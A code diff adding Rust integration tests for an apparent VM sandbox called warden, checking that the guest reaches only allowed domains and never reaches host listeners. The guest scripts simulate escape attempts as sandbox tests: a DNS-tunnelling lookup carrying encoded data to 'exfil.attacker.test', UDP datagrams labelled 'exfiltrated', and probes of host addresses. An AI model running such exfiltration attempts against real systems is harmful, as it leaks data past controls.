@@ -14,7 +14,7 @@ use common::*;
 use std::io::{Read, Write};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
-use std::sync::OnceLock;
+use std::sync::{Arc, Mutex, OnceLock};
 use std::time::{Duration, Instant};
 
 /// Where the guest kernel and the VM cache are: `WARDEN_VM_DIR` when the
@@ -144,6 +144,7 @@ fn a_vm_sandbox_runs_its_own_kernel_sees_no_host_secret_and_writes_the_workspace
         "touch /usr/warden-vm-write 2>/dev/null && echo USR-WRITABLE; \
          echo x > /etc/warden-vm-write 2>/dev/null && echo ETC-WRITABLE; \
          ls /dev | grep -q vport && echo PORT-VISIBLE; \
+         grep -v lo: /proc/net/dev | grep -q : && echo NIC-PRESENT; \
          unshare -U true 2>/dev/null && echo UNSHARE-WORKED; \
          echo written-in-guest > /workspace/out.txt; exit 3",
     );
@@ -180,6 +181,8 @@ fn a_vm_sandbox_runs_its_own_kernel_sees_no_host_secret_and_writes_the_workspace
         "the host's /usr was writable"
     );
     assert!(!Path::new("/usr/warden-vm-write").exists());
+    // No egress asked: no network device at all.
+    assert!(!out.contains("NIC-PRESENT"), "{out}");
     assert_eq!(
         std::fs::read_to_string(ws.path().join("out.txt")).unwrap(),
         "written-in-guest\n"
@@ -193,6 +196,10 @@ fn a_vm_sandbox_refuses_what_it_cannot_enforce_yet_before_booting() {
     for (args, word) in [
         (vec!["--publish", "18080:80"], "--publish"),
         (vec!["--ro", "/opt"], "binds"),
+        (
+            vec!["--secret", "WARDEN_VM_TEST_TOKEN@example.com"],
+            "--secret",
+        ),
         (vec!["--isolation", "vmm"], "not an isolation"),
     ] {
         let mut all = vec!["run", "--no-tty", "-w", ws.str()];
@@ -246,27 +253,89 @@ fn a_vm_sandbox_past_its_timeout_is_killed_with_its_vmm() {
     );
 }
 
+/// A TCP server on 127.0.0.1 that records what each connection sent and
+/// answers with `reply`.
+struct Upstream {
+    port: u16,
+    seen: Arc<Mutex<Vec<Vec<u8>>>>,
+}
+
+impl Upstream {
+    fn start(reply: &'static [u8]) -> Upstream {
+        Upstream::on("127.0.0.1:0", reply)
+    }
+
+    fn on(addr: &str, reply: &'static [u8]) -> Upstream {
+        let listener = std::net::TcpListener::bind(addr).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let s = seen.clone();
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { continue };
+                conn.set_read_timeout(Some(Duration::from_millis(500)))
+                    .unwrap();
+                let mut buf = vec![0u8; 65536];
+                let n = conn.read(&mut buf).unwrap_or(0);
+                s.lock().unwrap().push(buf[..n].to_vec());
+                let _ = conn.write_all(reply);
+            }
+        });
+        Upstream { port, seen }
+    }
+
+    fn connections(&self) -> Vec<Vec<u8>> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// Python for the guest: a real TLS ClientHello (OpenSSL's) for a name,
+/// and a connection that sends bytes and returns what came back.
+const PY_HELLO: &str = r#"import socket, ssl, sys
+def hello(name):
+    ctx = ssl.create_default_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
+    t = ctx.wrap_bio(i, o, server_hostname=name)
+    try: t.do_handshake()
+    except ssl.SSLWantReadError: pass
+    return o.read()
+def send(addr, data):
+    try:
+        s = socket.create_connection(addr, timeout=10); s.settimeout(10); s.sendall(data)
+        return s.recv(200)
+    except OSError as e:
+        return ('error', e.errno)
+def lookup(name):
+    try: return socket.gethostbyname(name)
+    except OSError as e: return 'nx'
+"#;
+
+/// The host's own address on its default route (no packet is sent), when
+/// it has one.
+fn host_address() -> Option<std::net::IpAddr> {
+    let u = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    u.connect("192.0.2.1:9").ok()?;
+    Some(u.local_addr().ok()?.ip()).filter(|ip| !ip.is_unspecified())
+}
+
 #[test]
 #[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
-fn a_vm_guest_has_no_route_to_a_host_listener() {
+fn a_vm_guest_reaches_an_allowed_name_and_a_denied_one_reaches_nothing() {
     let Some(_) = guest_release() else {
         return;
     };
-    // A listener on the host's loopback and one on every address, each
-    // recording whether anything ever arrives.
-    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let any = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
-    let (lp, ap) = (
-        local.local_addr().unwrap().port(),
-        any.local_addr().unwrap().port(),
-    );
-    for l in [&local, &any] {
-        l.set_nonblocking(true).unwrap();
-    }
-    let state = TempDir::new("vm-net");
-    let ws = TempDir::new("vm-net-ws");
+    let up = Upstream::start(b"hello from upstream");
+    let port = up.port;
+    let state = TempDir::new("vm-egress");
+    let ws = TempDir::new("vm-egress-ws");
+    let ev = state.path().join("ev.jsonl");
+    // The guest asks for the allowed name, then sends a ClientHello for a
+    // denied name to the very same address, and looks up an unlisted name
+    // (DNS tunnelling: the label carries the data).
     let script = format!(
-        "import socket\nfor h, p in [('127.0.0.1', {lp}), ('10.0.2.2', {ap}), ('192.168.0.1', {ap})]:\n    try:\n        socket.create_connection((h, p), timeout=3); print('CONNECTED', h)\n    except OSError as e: print('refused', h, e)\n"
+        "{PY_HELLO}ip = lookup('allowed.test')\nprint('ip', ip)\n\
+print('by-name', send((ip, {port}), hello('allowed.test')))\n\
+print('denied', send((ip, {port}), hello('denied.test')))\n\
+print('tunnel', lookup('c2VjcmV0.exfil.attacker.test'))\n"
     );
     let o = vm_warden(
         state.path(),
@@ -276,7 +345,11 @@ fn a_vm_guest_has_no_route_to_a_host_listener() {
             "vm",
             "--no-tty",
             "--allow-domain",
-            "localhost",
+            &format!("allowed.test:{port}"),
+            "--add-host",
+            "allowed.test=127.0.0.1",
+            "--json-events",
+            ev.to_str().unwrap(),
             "-w",
             ws.str(),
             "--",
@@ -288,10 +361,123 @@ fn a_vm_guest_has_no_route_to_a_host_listener() {
     );
     let out = stdout(&o);
     assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
-    assert!(!out.contains("CONNECTED"), "{out}");
-    for l in [&local, &any] {
-        assert!(l.accept().is_err(), "a connection reached the host");
+    assert!(
+        out.contains("by-name b'hello from upstream'"),
+        "{out}\n{}",
+        stderr(&o)
+    );
+    assert!(out.contains("denied b''"), "{out}");
+    assert!(out.contains("tunnel nx"), "{out}");
+    let seen = up.connections();
+    assert_eq!(seen.len(), 1, "the upstream saw {} connections", seen.len());
+    assert_eq!(seen[0][0], 22, "the upstream did not get the ClientHello");
+    assert!(
+        stderr(&o).contains("egress denied: tls denied.test"),
+        "{}",
+        stderr(&o)
+    );
+    // The decision log shows the guest's connections as a process
+    // sandbox's: one allowed and one denied TLS connection, the lookups.
+    let evs = events(&ev);
+    let conns: Vec<_> = evs.iter().filter(|e| e["event"] == "connection").collect();
+    let has = |proto: &str, name: &str, allowed: bool| {
+        conns
+            .iter()
+            .any(|e| e["protocol"] == proto && e["name"] == name && e["allowed"] == allowed)
+    };
+    assert!(has("tls", "allowed.test", true), "{conns:?}");
+    assert!(has("tls", "denied.test", false), "{conns:?}");
+    assert!(has("dns", "allowed.test", true), "{conns:?}");
+    // (The log names it as the resolver normalizes it: lower case.)
+    assert!(
+        has("dns", "c2vjcmv0.exfil.attacker.test", false),
+        "{conns:?}"
+    );
+}
+
+#[test]
+#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
+fn a_vm_guest_has_no_route_to_a_host_listener() {
+    let Some(_) = guest_release() else {
+        return;
+    };
+    // Listeners on the host's loopback and on every address, each
+    // recording whether anything ever arrives, and an attacker's name
+    // server on the host's loopback.
+    let local = Upstream::start(b"host loopback service");
+    // And the one the guest may reach, by its name: proof that the guest
+    // has a network, so that what does not arrive was stopped.
+    let allowed = Upstream::start(b"allowed upstream");
+    let any = Upstream::on("0.0.0.0:0", b"host service");
+    let (lp, ap) = (local.port, any.port);
+    let attacker = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+    attacker
+        .set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
+    let dp = attacker.local_addr().unwrap().port();
+    let mut targets = vec![
+        ("127.0.0.1".to_string(), lp),
+        ("127.0.0.1".to_string(), ap),
+        ("10.0.2.2".to_string(), ap),
+        ("192.168.0.1".to_string(), ap),
+    ];
+    match host_address() {
+        Some(ip) => targets.push((ip.to_string(), ap)),
+        None => eprintln!("the host has no default route: its own address is not tried"),
     }
+    let mut script = format!("{PY_HELLO}u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n");
+    for (h, p) in &targets {
+        script.push_str(&format!(
+            "print('raw', '{h}', {p}, send(('{h}', {p}), b'GET / HTTP/1.0\\r\\n\\r\\n'))\n\
+print('tls', '{h}', {p}, send(('{h}', {p}), hello('{h}')))\n\
+try: u.sendto(b'exfiltrated', ('{h}', {dp}))\nexcept OSError: pass\n"
+        ));
+    }
+    script.push_str(&format!(
+        "print('allowed', send((lookup('allowed.test'), {}), hello('allowed.test')))\nprint('done')\n",
+        allowed.port
+    ));
+    let state = TempDir::new("vm-net");
+    let ws = TempDir::new("vm-net-ws");
+    let o = vm_warden(
+        state.path(),
+        &[
+            "run",
+            "--isolation",
+            "vm",
+            "--no-tty",
+            "--allow-domain",
+            "localhost",
+            "--allow-domain",
+            &format!("allowed.test:{}", allowed.port),
+            "--add-host",
+            "allowed.test=127.0.0.1",
+            "-w",
+            ws.str(),
+            "--",
+            "python3",
+            "-c",
+            &script,
+        ],
+        None,
+    );
+    let out = stdout(&o);
+    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
+    assert!(out.contains("done"), "{out}\n{}", stderr(&o));
+    assert!(out.contains("allowed b'allowed upstream'"), "{out}");
+    assert_eq!(allowed.connections().len(), 1);
+    assert!(!out.contains("service"), "{out}");
+    assert!(
+        local.connections().is_empty() && any.connections().is_empty(),
+        "a connection reached the host: {:?} {:?}",
+        local.connections(),
+        any.connections()
+    );
+    let mut buf = [0u8; 64];
+    assert!(
+        attacker.recv_from(&mut buf).is_err(),
+        "a datagram reached the host"
+    );
 }
 
 /// Stops the sandbox even when the test fails half-way.
@@ -531,4 +717,143 @@ fn nobody_in_the_guest_can_use_dev_null() {
     let out = stdout(&o);
     assert!(out.starts_with("65534\n"), "{out}\n{}", stderr(&o));
     assert!(out.contains("NULL-OK"), "{out}\n{}", stderr(&o));
+}
+
+/// The guest kernel's modules the guest init loads (`warden_vm::image`'s
+/// list), for a copy of the kernel an unprivileged user can read.
+const GUEST_MODULES: &[&str] = &[
+    "drivers/virtio/virtio_ring.ko",
+    "drivers/virtio/virtio.ko",
+    "drivers/virtio/virtio_mmio.ko",
+    "drivers/char/virtio_console.ko",
+    "net/9p/9pnet.ko",
+    "net/9p/9pnet_virtio.ko",
+    "fs/netfs/netfs.ko",
+    "fs/fscache/fscache.ko",
+    "fs/9p/9p.ko",
+    "net/core/failover.ko",
+    "drivers/net/net_failover.ko",
+    "drivers/net/virtio_net.ko",
+];
+
+#[test]
+#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
+fn a_rootless_vm_guest_reaches_an_allowed_name_and_no_host_listener() {
+    let Some(release) = guest_release() else {
+        return;
+    };
+    let Some(who) = Unprivileged::get() else {
+        skip("cannot get an unprivileged user to run warden as");
+        return;
+    };
+    // The user's own VM directory, with a copy of the guest kernel and the
+    // modules it needs (root's is not theirs to read), and the guest init
+    // beside the user's copy of warden.
+    let dir = TempDir::new("vm-rootless");
+    let vm = dir.path().join("vm");
+    let kernel = vm.join("kernel");
+    let modules = kernel.join("lib/modules").join(&release);
+    std::fs::create_dir_all(kernel.join("boot")).unwrap();
+    let image = kernel.join(format!("boot/vmlinuz-{release}"));
+    let from = vm_dir().join("kernel");
+    std::fs::copy(from.join(format!("boot/vmlinuz-{release}")), &image).unwrap();
+    for m in GUEST_MODULES {
+        let src = from
+            .join("lib/modules")
+            .join(&release)
+            .join("kernel")
+            .join(m);
+        if src.exists() {
+            let dst = modules.join("kernel").join(m);
+            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
+            std::fs::copy(&src, &dst).unwrap();
+        }
+    }
+    let init = who.bin.parent().unwrap().join("warden-guest-init");
+    std::fs::copy(env!("CARGO_BIN_EXE_warden-guest-init"), &init).unwrap();
+    let ws = dir.path().join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    let _ = Command::new("chown")
+        .args(["-R", &format!("{}:{}", who.uid, who.gid)])
+        .arg(dir.path())
+        .status();
+    let allowed = Upstream::start(b"hello rootless vm");
+    let host = Upstream::start(b"host service");
+    let script = format!(
+        "{PY_HELLO}print('allowed', send((lookup('allowed.test'), {ap}), hello('allowed.test')))\n\
+print('host', send(('127.0.0.1', {hp}), b'ping'))\n\
+print('gateway', send(('10.0.2.2', {hp}), b'ping'))\n",
+        ap = allowed.port,
+        hp = host.port
+    );
+    let o = who
+        .command(who.bin.to_str().unwrap())
+        .args(["run", "--isolation", "vm", "--no-tty", "--allow-domain"])
+        .arg(format!("allowed.test:{}", allowed.port))
+        .args(["--add-host", "allowed.test=127.0.0.1", "-w"])
+        .arg(&ws)
+        .args(["--", "python3", "-c", &script])
+        .env("WARDEN_VM_DIR", &vm)
+        .env("WARDEN_STATE_DIR", dir.path().join("state"))
+        .output()
+        .unwrap();
+    let out = stdout(&o);
+    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
+    assert!(
+        out.contains("allowed b'hello rootless vm'"),
+        "{out}\n{}",
+        stderr(&o)
+    );
+    assert_eq!(allowed.connections().len(), 1);
+    assert!(
+        host.connections().is_empty(),
+        "a connection reached the host: {out}"
+    );
+}
+
+#[test]
+#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
+fn exec_with_a_terminal_into_a_vm_sandbox_runs_at_a_real_pseudo_terminal() {
+    let Some(_) = guest_release() else {
+        return;
+    };
+    let state = TempDir::new("vm-tty");
+    ok(&vm_warden(
+        state.path(),
+        &["create", "--isolation", "vm", "ttybox"],
+        None,
+    ));
+    ok(&vm_warden(state.path(), &["start", "ttybox"], None));
+    let _stop = Stopper(state.path(), "ttybox");
+    // `warden exec -t` at a real pseudo-terminal the test holds the master
+    // side of: the process must see a terminal of its own (tty, its size),
+    // what is typed must reach it, and its exit status come back.
+    let driver = r#"import os, pty, sys, time, select
+pid, fd = pty.fork()
+if pid == 0:
+    os.execv(sys.argv[1], [sys.argv[1], 'exec', '-t', 'ttybox', '--', 'sh', '-c', 'tty; stty size; echo ready; read x; echo got-$x; exit 7'])
+out = b''; sent = False; end = time.time() + 120
+while time.time() < end:
+    r, _, _ = select.select([fd], [], [], 0.5)
+    if r:
+        try: d = os.read(fd, 4096)
+        except OSError: break
+        if not d: break
+        out += d
+    if not sent and b'ready' in out:
+        os.write(fd, b'hello\n'); sent = True
+_, st = os.waitpid(pid, 0)
+print(repr(out)); print('status', os.waitstatus_to_exitcode(st))
+"#;
+    let o = Command::new("python3")
+        .args(["-c", driver, warden_bin().to_str().unwrap()])
+        .env("WARDEN_STATE_DIR", state.path().join("warden"))
+        .env("WARDEN_VM_DIR", vm_dir())
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let out = stdout(&o);
+    assert!(out.contains("/dev/pts/"), "{out}\n{}", stderr(&o));
+    assert!(out.contains("got-hello"), "{out}\n{}", stderr(&o));
+    assert!(out.contains("status 7"), "{out}\n{}", stderr(&o));
 }
